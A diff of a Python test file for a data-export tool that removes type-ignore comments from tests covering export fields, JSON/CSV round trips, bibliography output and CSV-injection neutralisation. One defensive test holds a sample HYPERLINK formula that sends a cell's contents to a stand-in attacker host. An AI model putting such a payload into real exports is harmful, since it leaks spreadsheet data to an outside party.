@@ -39,21 +39,21 @@ REQUIRED = {
 }
 
 
-def test_export_has_every_required_field(base) -> None:  # type: ignore[no-untyped-def]
+def test_export_has_every_required_field(base) -> None:
     rows = export.rows(base)
     assert len(rows) == len(base.outcomes)
     assert set(rows[0]) >= REQUIRED
     assert set(export.EXPORT_FIELDS) == set(rows[0])
 
 
-def test_second_hand_figures_point_at_the_seed(base) -> None:  # type: ignore[no-untyped-def]
+def test_second_hand_figures_point_at_the_seed(base) -> None:
     rows = {row["outcome_id"]: row for row in export.rows(base)}
     qualls = [row for row in rows.values() if row["source_id"] == "qualls-2023"]
     assert qualls
     assert {row["reported_in"] for row in qualls} == {"10.1002/hon.70167"}
 
 
-def test_json_and_csv_round_trip(base) -> None:  # type: ignore[no-untyped-def]
+def test_json_and_csv_round_trip(base) -> None:
     rows = export.rows(base)
     assert json.loads(export.to_json(rows)) == json.loads(json.dumps(rows))
     parsed = list(csv.DictReader(io.StringIO(export.to_csv(rows))))
@@ -61,14 +61,14 @@ def test_json_and_csv_round_trip(base) -> None:  # type: ignore[no-untyped-def]
     assert parsed[0]["outcome_id"] == rows[0]["outcome_id"]
 
 
-def test_cli_export_and_validate(capsys) -> None:  # type: ignore[no-untyped-def]
+def test_cli_export_and_validate(capsys) -> None:
     assert main(["validate"]) == 0
     assert "valid" in capsys.readouterr().out
     assert main(["export", "--format", "json"]) == 0
     assert isinstance(json.loads(capsys.readouterr().out), list)
 
 
-def test_bibliography_formats(base) -> None:  # type: ignore[no-untyped-def]
+def test_bibliography_formats(base) -> None:
     bibtex = cite.bibliography(base, "bibtex")
     ris = cite.bibliography(base, "ris")
     assert bibtex.count("@") == len(base.sources)
@@ -113,7 +113,7 @@ def test_each_row_says_what_its_figure_measures_and_rests_on() -> None:
     }
 
 
-def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base) -> None:  # type: ignore[no-untyped-def]
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base) -> None:
     # OWASP CSV injection: a text cell starting with = + - @ (or tab, CR) is a formula.
     row = export.rows(base)[0] | {
         "note": '=HYPERLINK("https://evil.example/?"&A1,"details")',
@@ -134,7 +134,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base) -> None:  
     assert parsed["value"] == "-0.5"  # a number stays a number
 
 
-def test_no_exported_text_cell_starts_like_a_formula(base) -> None:  # type: ignore[no-untyped-def]
+def test_no_exported_text_cell_starts_like_a_formula(base) -> None:
     for parsed in csv.DictReader(io.StringIO(export.to_csv(export.rows(base)))):
         for name, cell in parsed.items():
             if cell.startswith(export.FORMULA_START):
